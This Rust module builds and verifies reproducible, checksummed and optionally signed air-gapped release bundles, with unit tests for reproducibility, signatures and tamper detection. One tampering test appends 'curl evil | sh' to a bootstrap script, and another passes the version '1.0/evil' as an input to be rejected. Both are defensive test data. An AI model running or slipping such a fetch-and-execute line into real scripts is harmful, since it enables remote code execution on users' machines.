//! The air-gapped bundle: one reproducible `rune-bundle-VERSION.tar.gz` holding all a
//! disconnected site needs, and its verification.
//!
//! Layout (below the top directory `rune-bundle-VERSION/`):
//!
//! | path | what |
//! |---|---|
//! | `images/REPOSITORY/TAG.tar` | OCI archive, multi-arch index named TAG (repository path kept) |
//! | `charts/NAME-VERSION.tgz` | Helm charts |
//! | `crds/*.yaml` | CustomResourceDefinitions (applied before the operator chart) |
//! | `scripts/*.sh` | bootstrap, upgrade, rollback and their library |
//! | `sbom/rune.cdx.json` | CycloneDX SBOM of the Rust dependencies |
//! | `manifest.json` | version, revision, and the digest of every artifact |
//! | `SHA256SUMS` | `sha256sum -c` list of every file above, sorted by path |
//! | `SHA256SUMS.sig` | optional raw ed25519 signature over `SHA256SUMS` |
//!
//! Signing `SHA256SUMS` covers every file through its checksum, and keeps the signature
//! checkable with OpenSSL alone (see [`crate::signing`]). The public key never travels in
//! the bundle: a key that arrives with the data it vouches for proves nothing.

use crate::archive::{self, Entry};
use crate::oci::{ImageLayout, ImageSpec};
use crate::{chart, sbom, sha256_hex, signing, Error, Result};
use ed25519_dalek::{SigningKey, VerifyingKey};
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// The checksum list's name inside the bundle.
pub const SUMS: &str = "SHA256SUMS";
/// The detached signature's name inside the bundle.
pub const SIGNATURE: &str = "SHA256SUMS.sig";

/// Everything a bundle is made from. The same inputs give the same bytes.
pub struct BundleInputs {
    /// Release version (also the image tag and the top directory's suffix).
    pub version: String,
    /// The RUNE image (its `tag` should equal `version`).
    pub image: ImageSpec,
    /// Directory whose subdirectories holding a `Chart.yaml` are packaged.
    pub charts_dir: Option<PathBuf>,
    /// Directory of CRD `*.yaml` files.
    pub crds_dir: Option<PathBuf>,
    /// Directory of the airgap `*.sh` scripts.
    pub scripts_dir: PathBuf,
    /// The workspace `Cargo.lock` (for the SBOM).
    pub cargo_lock: PathBuf,
    /// Unix seconds for every time in the bundle.
    pub epoch: u64,
    /// Sign `SHA256SUMS` with this key.
    pub signing_key: Option<SigningKey>,
}

/// A written bundle.
#[derive(Debug, Clone)]
pub struct Bundle {
    /// The .tar.gz bytes.
    pub data: Vec<u8>,
    /// Hex sha256 of `data`.
    pub sha256: String,
    /// The manifest.json content.
    pub manifest: Value,
}

fn files_in(dir: &Path, suffixes: &[&str]) -> Result<Vec<(String, Vec<u8>)>> {
    let mut out = Vec::new();
    let read = std::fs::read_dir(dir).map_err(|e| Error::io(dir, e))?;
    for child in read {
        let child = child.map_err(|e| Error::io(dir, e))?;
        let name = child.file_name().to_string_lossy().into_owned();
        let path = child.path();
        if path.is_file() && suffixes.iter().any(|s| name.ends_with(s)) {
            out.push((name, std::fs::read(&path).map_err(|e| Error::io(&path, e))?));
        }
    }
    out.sort();
    Ok(out)
}

/// Builds the bundle.
///
/// # Errors
/// [`Error::Invalid`] for a bad version, image, chart, CRD directory or lockfile, or no
/// scripts; [`Error::Io`] naming an unreadable input.
pub fn build(inputs: &BundleInputs) -> Result<Bundle> {
    crate::oci::validate_tag(&inputs.version).map_err(|e| Error::Invalid(format!("--version: {e}")))?;
    let top = format!("rune-bundle-{}", inputs.version);
    let mut files: BTreeMap<String, (u32, Vec<u8>)> = BTreeMap::new();

    let layout = ImageLayout::build(&inputs.image)?;
    let image_path = format!("images/{}/{}.tar", inputs.image.repository, inputs.image.tag);
    let image_archive = layout.to_archive()?;
    let image_entry = json!({
        "repository": inputs.image.repository,
        "tag": inputs.image.tag,
        "path": image_path,
        "sha256": sha256_hex(&image_archive),
        "digest": layout.index_digest,
        "platforms": layout.manifests.iter().map(|(p, d)| json!({"platform": p.to_string(), "digest": d})).collect::<Vec<_>>(),
    });
    files.insert(image_path, (0o644, image_archive));

    let mut charts = Vec::new();
    if let Some(dir) = &inputs.charts_dir {
        let mut subdirs: Vec<PathBuf> = std::fs::read_dir(dir)
            .map_err(|e| Error::io(dir, e))?
            .filter_map(|c| c.ok().map(|c| c.path()))
            .filter(|p| p.join("Chart.yaml").is_file())
            .collect();
        subdirs.sort();
        for sub in subdirs {
            let packaged = chart::package(&sub, inputs.epoch)?;
            let path = format!("charts/{}", packaged.file_name);
            charts.push(json!({"name": packaged.name, "version": packaged.version, "path": path, "sha256": sha256_hex(&packaged.data)}));
            files.insert(path, (0o644, packaged.data));
        }
    }
    let mut crds = Vec::new();
    if let Some(dir) = &inputs.crds_dir {
        for (name, data) in files_in(dir, &[".yaml", ".yml"])? {
            let path = format!("crds/{name}");
            crds.push(json!({"path": path, "sha256": sha256_hex(&data)}));
            files.insert(path, (0o644, data));
        }
    }
    let scripts = files_in(&inputs.scripts_dir, &[".sh"])?;
    if scripts.is_empty() {
        return Err(Error::Invalid(format!("{}: no *.sh scripts to bundle", inputs.scripts_dir.display())));
    }
    let mut script_entries = Vec::new();
    for (name, data) in scripts {
        let path = format!("scripts/{name}");
        script_entries.push(json!({"path": path, "sha256": sha256_hex(&data)}));
        files.insert(path, (0o755, data));
    }
    let lock = std::fs::read_to_string(&inputs.cargo_lock).map_err(|e| Error::io(&inputs.cargo_lock, e))?;
    let created = crate::rfc3339(inputs.epoch);
    let bom = sbom::cyclonedx(&lock, "rune", &inputs.image.version, &created)?;
    let bom_bytes = pretty(&bom);
    let sbom_entry = json!({"path": "sbom/rune.cdx.json", "format": "CycloneDX 1.5", "sha256": sha256_hex(&bom_bytes)});
    files.insert("sbom/rune.cdx.json".into(), (0o644, bom_bytes));

    let manifest = json!({
        "schema": 1,
        "name": "rune",
        "version": inputs.version,
        "revision": inputs.image.revision,
        "created": created,
        "images": [image_entry],
        "charts": charts,
        "crds": crds,
        "scripts": script_entries,
        "sbom": sbom_entry,
        "signed": inputs.signing_key.is_some(),
    });
    files.insert("manifest.json".into(), (0o644, pretty(&manifest)));

    let sums: String = files.iter().map(|(path, (_, data))| format!("{}  {path}\n", sha256_hex(data))).collect();
    if let Some(key) = &inputs.signing_key {
        files.insert(SIGNATURE.into(), (0o644, signing::sign(key, sums.as_bytes())));
    }
    files.insert(SUMS.into(), (0o644, sums.into_bytes()));

    let mut entries = vec![Entry::dir(&top, 0o755)];
    let mut dirs = std::collections::BTreeSet::new();
    for path in files.keys() {
        let mut parent = Path::new(path).parent();
        while let Some(p) = parent.filter(|p| !p.as_os_str().is_empty()) {
            dirs.insert(p.to_string_lossy().into_owned());
            parent = p.parent();
        }
    }
    entries.extend(dirs.into_iter().map(|d| Entry::dir(format!("{top}/{d}"), 0o755)));
    entries.extend(files.into_iter().map(|(path, (mode, data))| Entry::file(format!("{top}/{path}"), mode, data)));
    let data = archive::tar_gz(&entries, inputs.epoch)?;
    Ok(Bundle { sha256: sha256_hex(&data), data, manifest })
}

fn pretty(v: &Value) -> Vec<u8> {
    let mut out = serde_json::to_vec_pretty(v).expect("JSON value");
    out.push(b'\n');
    out
}

/// What [`verify`] found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifyReport {
    /// The bundle's top directory.
    pub top: String,
    /// `version` from manifest.json.
    pub version: String,
    /// Files checked against `SHA256SUMS`.
    pub files: usize,
    /// The bundle carries `SHA256SUMS.sig`.
    pub signed: bool,
    /// The signature was checked against a public key (and matched).
    pub signature_checked: bool,
}

/// Verifies a bundle's bytes: one top directory, every file listed in `SHA256SUMS` with
/// the right hash and nothing unlisted, and, given a public key, a valid signature
/// (required then: an unsigned bundle fails when a key is given).
///
/// # Errors
/// [`Error::Verification`] naming the first file or check that failed;
/// [`Error::Invalid`] when the data is not a bundle at all.
pub fn verify(data: &[u8], name: &str, public_key: Option<&VerifyingKey>) -> Result<VerifyReport> {
    let members = archive::read_tar_gz(data, name)?;
    let mut top: Option<String> = None;
    let mut files = BTreeMap::new();
    for (path, content) in members {
        let (head, rest) = path.split_once('/').unwrap_or((&path, ""));
        if rest.is_empty() {
            return Err(Error::Verification(format!("{name}: file {path:?} is outside the bundle directory")));
        }
        match &top {
            Some(t) if t != head => {
                return Err(Error::Verification(format!("{name}: more than one top directory ({t}, {head})")));
            }
            _ => top = Some(head.to_string()),
        }
        files.insert(rest.to_string(), content);
    }
    let top = top.ok_or_else(|| Error::Invalid(format!("{name}: empty archive")))?;
    let sums = files.remove(SUMS).ok_or_else(|| Error::Verification(format!("{name}: no {SUMS} in {top}/")))?;
    let signature = files.remove(SIGNATURE);
    let sums_text = String::from_utf8(sums.clone()).map_err(|_| Error::Verification(format!("{SUMS} is not text")))?;
    if let Some(key) = public_key {
        let sig = signature.as_deref().ok_or_else(|| {
            Error::Verification(format!("{name}: a public key was given but the bundle is not signed (no {SIGNATURE})"))
        })?;
        signing::verify(key, &sums, sig).map_err(|e| Error::Verification(format!("{SIGNATURE}: {e}")))?;
    }
    let mut listed = BTreeMap::new();
    for (n, line) in sums_text.lines().enumerate() {
        let (hash, path) = line
            .split_once("  ")
            .filter(|(h, _)| h.len() == 64 && h.chars().all(|c| c.is_ascii_hexdigit()))
            .ok_or_else(|| Error::Verification(format!("{SUMS}:{}: not `<sha256>  <path>`", n + 1)))?;
        listed.insert(path.to_string(), hash.to_ascii_lowercase());
    }
    for (path, content) in &files {
        match listed.get(path) {
            None => return Err(Error::Verification(format!("{top}/{path} is not listed in {SUMS}"))),
            Some(expected) if *expected != sha256_hex(content) => {
                return Err(Error::Verification(format!("{top}/{path}: sha256 does not match {SUMS}")));
            }
            Some(_) => {}
        }
    }
    if let Some(missing) = listed.keys().find(|p| !files.contains_key(*p)) {
        return Err(Error::Verification(format!("{top}/{missing} is listed in {SUMS} but missing")));
    }
    let manifest: Value = files
        .get("manifest.json")
        .and_then(|m| serde_json::from_slice(m).ok())
        .ok_or_else(|| Error::Verification(format!("{top}/manifest.json is missing or not JSON")))?;
    Ok(VerifyReport {
        top,
        version: manifest["version"].as_str().unwrap_or_default().to_string(),
        files: files.len(),
        signed: signature.is_some(),
        signature_checked: public_key.is_some(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oci::{fake_elf, Platform};

    fn inputs(root: &Path, key: Option<SigningKey>) -> BundleInputs {
        let scripts = root.join("scripts");
        std::fs::create_dir_all(&scripts).unwrap();
        std::fs::write(scripts.join("bootstrap.sh"), "#!/bin/sh\n").unwrap();
        let chart = root.join("charts/rune");
        std::fs::create_dir_all(&chart).unwrap();
        std::fs::write(chart.join("Chart.yaml"), "name: rune\nversion: 0.1.0\n").unwrap();
        let lock = root.join("Cargo.lock");
        std::fs::write(&lock, "version = 4\n[[package]]\nname = \"rune-cli\"\nversion = \"0.1.0\"\n").unwrap();
        let amd64: Platform = "linux/amd64".parse().unwrap();
        BundleInputs {
            version: "0.1.0".into(),
            image: ImageSpec {
                repository: "ghcr.io/rune-bench/rune".into(),
                tag: "0.1.0".into(),
                version: "0.1.0".into(),
                revision: "abc".into(),
                source: "https://github.com/rune-bench/rune".into(),
                licenses: "Apache-2.0".into(),
                epoch: 1_700_000_000,
                binaries: [(amd64.clone(), fake_elf(&amd64, b"x"))].into(),
            },
            charts_dir: Some(root.join("charts")),
            crds_dir: None,
            scripts_dir: scripts,
            cargo_lock: lock,
            epoch: 1_700_000_000,
            signing_key: key,
        }
    }

    fn rebuild_with(data: &[u8], change: impl Fn(&mut Vec<(String, Vec<u8>)>)) -> Vec<u8> {
        let mut members = archive::read_tar_gz(data, "b").unwrap();
        change(&mut members);
        let entries: Vec<Entry> = members.into_iter().map(|(p, d)| Entry::file(p, 0o644, d)).collect();
        archive::tar_gz(&entries, 0).unwrap()
    }

    #[test]
    fn reproducible_and_verifiable() {
        let tmp = tempfile::tempdir().unwrap();
        let a = build(&inputs(tmp.path(), None)).unwrap();
        let b = build(&inputs(tmp.path(), None)).unwrap();
        assert_eq!(a.sha256, b.sha256);
        let report = verify(&a.data, "b", None).unwrap();
        assert_eq!(report.top, "rune-bundle-0.1.0");
        assert_eq!(report.version, "0.1.0");
        assert!(!report.signed);
        let names: Vec<String> = archive::read_tar_gz(&a.data, "b").unwrap().into_iter().map(|(n, _)| n).collect();
        assert!(names.contains(&"rune-bundle-0.1.0/images/ghcr.io/rune-bench/rune/0.1.0.tar".to_string()), "{names:?}");
        assert!(names.contains(&"rune-bundle-0.1.0/charts/rune-0.1.0.tgz".to_string()), "{names:?}");
    }

    #[test]
    fn signed_bundle_checks_against_the_right_key_only() {
        let tmp = tempfile::tempdir().unwrap();
        let key = SigningKey::from_bytes(&[7; 32]);
        let bundle = build(&inputs(tmp.path(), Some(key.clone()))).unwrap();
        let report = verify(&bundle.data, "b", Some(&key.verifying_key())).unwrap();
        assert!(report.signed && report.signature_checked);
        let other = SigningKey::from_bytes(&[8; 32]).verifying_key();
        assert!(matches!(verify(&bundle.data, "b", Some(&other)), Err(Error::Verification(_))));
        let unsigned = build(&inputs(tmp.path(), None)).unwrap();
        let err = verify(&unsigned.data, "b", Some(&key.verifying_key())).unwrap_err().to_string();
        assert!(err.contains("not signed"), "{err}");
    }

    #[test]
    fn tampering_is_detected() {
        let tmp = tempfile::tempdir().unwrap();
        let bundle = build(&inputs(tmp.path(), None)).unwrap();
        let changed = rebuild_with(&bundle.data, |m| {
            let script = m.iter_mut().find(|(p, _)| p.ends_with("bootstrap.sh")).unwrap();
            script.1.extend_from_slice(b"curl evil | sh\n");
        });
        let err = verify(&changed, "b", None).unwrap_err().to_string();
        assert!(err.contains("scripts/bootstrap.sh: sha256 does not match"), "{err}");
        let added = rebuild_with(&bundle.data, |m| m.push(("rune-bundle-0.1.0/extra.sh".into(), b"x".to_vec())));
        assert!(verify(&added, "b", None).unwrap_err().to_string().contains("extra.sh is not listed"));
        let removed = rebuild_with(&bundle.data, |m| m.retain(|(p, _)| !p.ends_with("manifest.json")));
        assert!(verify(&removed, "b", None).unwrap_err().to_string().contains("manifest.json is listed"));
        let no_sums = rebuild_with(&bundle.data, |m| m.retain(|(p, _)| !p.ends_with(SUMS)));
        assert!(verify(&no_sums, "b", None).unwrap_err().to_string().contains("no SHA256SUMS"));
        let two_tops = rebuild_with(&bundle.data, |m| m.push(("other/x".into(), vec![])));
        assert!(verify(&two_tops, "b", None).unwrap_err().to_string().contains("more than one top"));
    }

    #[test]
    fn bad_versions_and_missing_scripts_are_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let mut i = inputs(tmp.path(), None);
        i.version = "1.0/evil".into();
        assert!(build(&i).unwrap_err().to_string().contains("--version"));
        let mut i = inputs(tmp.path(), None);
        i.scripts_dir = tmp.path().join("charts");
        assert!(build(&i).unwrap_err().to_string().contains("no *.sh scripts"));
    }
}
